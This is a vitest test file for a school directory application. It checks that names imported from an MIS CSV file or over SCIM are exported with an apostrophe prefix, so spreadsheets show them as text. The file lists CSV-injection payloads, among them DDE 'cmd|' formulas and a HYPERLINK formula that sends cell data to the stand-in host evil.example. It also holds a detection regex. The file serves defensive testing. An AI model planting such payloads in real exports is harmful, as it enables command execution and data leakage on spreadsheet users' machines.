import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { dialects } from '../helpers/databases.js';
import { setUpSchool, startTestApp, type Session, type TestApp } from '../helpers/runtime.js';

/**
 * CSV injection (issue 10): names come from files (an MIS export) and from the identity provider
 * (SCIM), and the directory export is opened in a spreadsheet. A cell starting with = + - @, a tab
 * or a carriage return would be run as a formula (OWASP "CSV Injection"); the export prefixes it
 * with an apostrophe so the spreadsheet shows it as text, and changes nothing else.
 */

const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click here")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0',
  // Full-width forms, which spreadsheets in East Asian locales may read as the ASCII ones.
  '＝HYPERLINK("http://evil.example/","x")', '＋1+1', '－1+1', '＠SUM(1+1)'];
const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

for (const dialect of await dialects()) {
  describe(`directory export and formulas (${dialect})`, () => {
    let t: TestApp;
    let admin: Session;

    afterEach(async () => {
      await t?.close();
    });

    it('AC-12 attack: a name starting with = is exported as text', async () => {
      t = await startTestApp(dialect);
      admin = await setUpSchool(t);
      // Formulas arrive in an import file (quoted, as an MIS exports them) and over SCIM.
      const rows = PAYLOADS.map((p, i) => `p${i},"${p.replace(/"/g, '""')}","${p.replace(/"/g, '""')}",pupil`);
      const file = `username,First name,Surname,role\r\n${rows.join('\r\n')}\r\n`;
      const imported = await t.app.inject({ method: 'POST', url: '/api/imports/commit', headers: admin.headers, payload: { kind: 'csv', files: { 'mis.csv': file }, mapping: { username: 'username', givenName: 'First name', familyName: 'Surname', role: 'role' } } });
      expect(imported.statusCode, imported.body).toBe(200);
      expect(imported.json().plan.counts).toMatchObject({ created: PAYLOADS.length, bad: 0 });
      const token = (await t.app.inject({ method: 'POST', url: '/api/scim/tokens', headers: admin.headers, payload: { name: 'Entra ID', roles: ['pupil'] } })).json().secret as string;
      const scim = await t.app.inject({
        method: 'POST',
        url: '/scim/v2/Users',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/scim+json' },
        payload: JSON.stringify({ userName: 'from.entra', displayName: '=1+1', name: { givenName: '@A1', familyName: '-A1' }, emails: [{ value: 'from.entra@school.example', primary: true }] }),
      });
      expect(scim.statusCode, scim.body).toBe(201);

      const exported = await t.app.inject({ method: 'GET', url: '/api/directory/export.csv', headers: admin.headers });
      expect(exported.statusCode).toBe(200);
      const table = parse(exported.body, { bom: true, columns: true }) as Array<Record<string, string>>;
      const byUser = new Map(table.map((r) => [r.username, r]));
      for (const [i, payload] of PAYLOADS.entries()) {
        const row = byUser.get(`p${i}`)!;
        // Shown as the text it is: an apostrophe first, then exactly what was stored.
        expect(row.given_name).toBe(`'${payload}`);
        expect(row.family_name).toBe(`'${payload}`);
        expect(row.display_name).toBe(`'${payload} ${payload}`);
      }
      expect(byUser.get('from.entra')).toMatchObject({ display_name: "'=1+1", given_name: "'@A1", family_name: "'-A1" });
      // No cell of the export starts with a character a spreadsheet runs.
      for (const row of table) for (const [column, cell] of Object.entries(row)) expect(TRIGGER.test(cell), `${column}: ${cell}`).toBe(false);
      // Ordinary values are untouched.
      expect(byUser.get('master')!.display_name).toBe('Master Administrator');
      expect(byUser.get('p0')!.role).toBe('Pupil');
    });
  });
}
